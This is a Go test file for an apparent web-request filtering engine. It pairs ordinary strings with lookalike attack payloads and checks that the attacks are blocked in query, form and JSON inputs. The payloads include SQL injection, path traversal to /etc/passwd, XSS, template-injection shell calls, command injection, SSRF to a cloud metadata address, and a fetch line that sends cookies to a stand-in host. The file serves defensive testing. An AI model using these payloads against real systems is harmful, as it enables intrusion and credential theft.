package engine

import (
	"encoding/base64"
	"encoding/hex"
	"math/rand/v2"
	"net/url"
	"strconv"
	"testing"
)

// twins are values of software and documentation, each beside an attack that
// looks like it.
var twins = []struct{ ordinary, attack string }{
	{"$lowercase(DBClusterIdentifier)", "$f('id');$lowercase($f)"},
	{"Enrega\u0135o: %s [ELEKTO]...\nPremu \u201e%s\u201c...\n", "..%e2%88%95..%e2%88%95..%e2%88%95etc/passwd"},
	{"`import` of a package that was never added can fail", "'-import('//a.example/x.js')-'"},
	{"Both `breakOn` and `eval` options were set in the [`REPL`][] config,", "';eval`alert\\x281\\x29`//"},
	{"> **Note**: statements can overlap if `undici` or `fetch` is on.", "*/fetch('//a.example/?'+document.cookie)/*"},
	{"npm exec (npx) programmatic API", "exec('npx')"},
	{"fopen (temporary file)", "fopen('/etc/passwd','r')"},
	{"runs-on: ${{ matrix.os }}", "{{ x.os.popen('id').read() }}"},
	{"L'ID \u00ab%2$s\u00bb dell'elemento <%1$s> n'est pas <%s id='%s'>", "<%= system('id') %>"},
	{"(?:@(sha256:[0-9a-f]{64}))", "@(7*7)"},
	{"whereas `fs.writeFile()` retries until", "1 union select writefile('/var/www/x.php','x')"},
	{"content, err := os.ReadFile(name), benchmark (Ann Smith)", "1 and benchmark(5000000,md5(1))"},
	{"for (i = 0; i < len(x) && i < len(y); i++)", "1 && length(user())>0"},
	{"archive/refs/heads/master.tar.gz", "1;exec master..xp_cmdshell 'dir'"},
	{">=16 || 14 >=14.17", "16 || 14>=14"},
	{"bir kelimeden \u00e7ok '!'", "a'='"},
	{"ApiProxy::makeSyncCall(self::PACKAGE_NAME, $x);", "'] | //user[self::node()]"},
	{"\nParser: \"%s\" of the second form", "\r\nSet-Cookie: a=b"},
	{"| FastAPI   | Python     |    168K |", "168K | python -c 'import os' |"},
	{"## Fedora & RPM friends", "a & rpm -qa"},
	{"pattern: ^arn:(?:key\\/[a-z]+|alias\\/[a-z]+)$", "a|cat /etc/passwd"},
	{"point to be loaded, such as `--import` or [`--loader`][].", "`;import`x`;alert`1`"},
	{"the files `.../foo` and `.../foo.git`", ".../.../.../etc/passwd"},
	{"Local<Object> target, Local<Value> v", "<object data=javascript:alert(1)>"},
	{"`/api/*` one component; `/**/user`", ";/b*n/c?t /etc/passwd"},
	{"it makes a list with `fs.mkdir()` when", "fs.mkdir('x')"},
	{"on Windows it uses %SystemRoot% or %windir%", "%SystemRoot%\\system32\\cmd.exe /c dir"},
	{"This calls [time](https://pkg.example/time) and (see /usr/share/time)", "a|/bin/cat /etc/passwd"},
	{"^(?:true|false)$", "true|whoami"},
	{"en ella su pg_database.datallowconn debe ser falso", "1 union select 1 from pg_database.x"},
	{"Brak '>'", "x'='"},
	{"if (argc > 1 && strcmp(argv[1], \"-x\") == 0)", "1 && strcmp(substr(user(),1,1),'a')=0"},
	{"klic exec() ni mogo\u010d", "exec('id')"},
	{"go list -f '{{.Module}}' ./...", "{{module.constructor('return process')()}}"},
	{"go test -coverpkg=./... ./e ./f ./g", "./../../../../etc/passwd"},
	{"http://localhost:3000/x?code=1", "http://localhost:9200/_cat"},
	{"the list name;id;age of fields", "127.0.0.1;id;"},
	{"`sleep 60` waits a minute", "a`sleep 60`"},
	{"Tom & cat food", "&& cat flag"},
	{"{{ .Values.name }}", "{{.File \"/etc/passwd\"}}"},
	{"{%22url%22:{%22module%22:%22x%22,%22method%22:%22y%22}}", "{% import os %}{{ os.popen('id') }}"},
	{"\">\n<https://docs.example/v1/>", "\">\n<iframe src=//x>"},
	{"https://a.example/?b=c#d@e", "http://a.example:80+&@b.example:80#+@127.0.0.1:22/"},
	{"https://img.example/301/a.jpg", "https://img.example/301-http-169.254.169.254:80-.i.jpg"},
	{"1; copy the file to the folder", "1; COPY t(a) FROM '/tmp/x'--"},
	{"`${process.stdout.columns}x${process.stdout.rows}`", "${process.mainModule.require('child_process').execSync('id')}"},
}

// TestTwins sends both as parameters, in forms and in JSON.
func TestTwins(t *testing.T) {
	e := New(Options{})
	send := func(v string) (places []string, requests []request) {
		form := "application/x-www-form-urlencoded"
		return []string{"query", "form", "json"}, []request{
			{method: "GET", target: "/search?page=1&q=" + url.QueryEscape(v)},
			{"POST", "/notes", []string{"Content-Type", form}, "id=7&text=" + url.QueryEscape(v)},
			post("application/json", `{"id":7,"text":`+strconv.Quote(v)+`}`),
		}
	}
	check := func(v string, want Decision) {
		places, requests := send(v)
		for i := range requests {
			expect(t, e, &requests[i], want, v+" in "+places[i])
		}
	}
	for _, c := range twins {
		check(c.ordinary, Pass)
		check(c.attack, Block)
	}
}

// TestIdentifiers sends random identifiers, of which some decode to letters and
// signs.
func TestIdentifiers(t *testing.T) {
	e := New(Options{})
	r := rand.New(rand.NewPCG(8, 9))
	ids := []string{"476e0798d2", "2591b1c7d0", "e3d61518d1", "45a41b47d5", "330a31654b23", "K2xzCgl8Sq", "PFh3ClNA", "4a6f75780a65"}
	for range 2000 {
		b := make([]byte, 4+r.IntN(20))
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		ids = append(ids, hex.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b))
	}
	for _, id := range ids {
		q := request{"POST", "/files/" + id + "/x?" + id + "=1", []string{"Content-Type", "application/x-www-form-urlencoded", "X-Token", id}, id + "=hello"}
		expect(t, e, &q, Pass, id)
	}
}
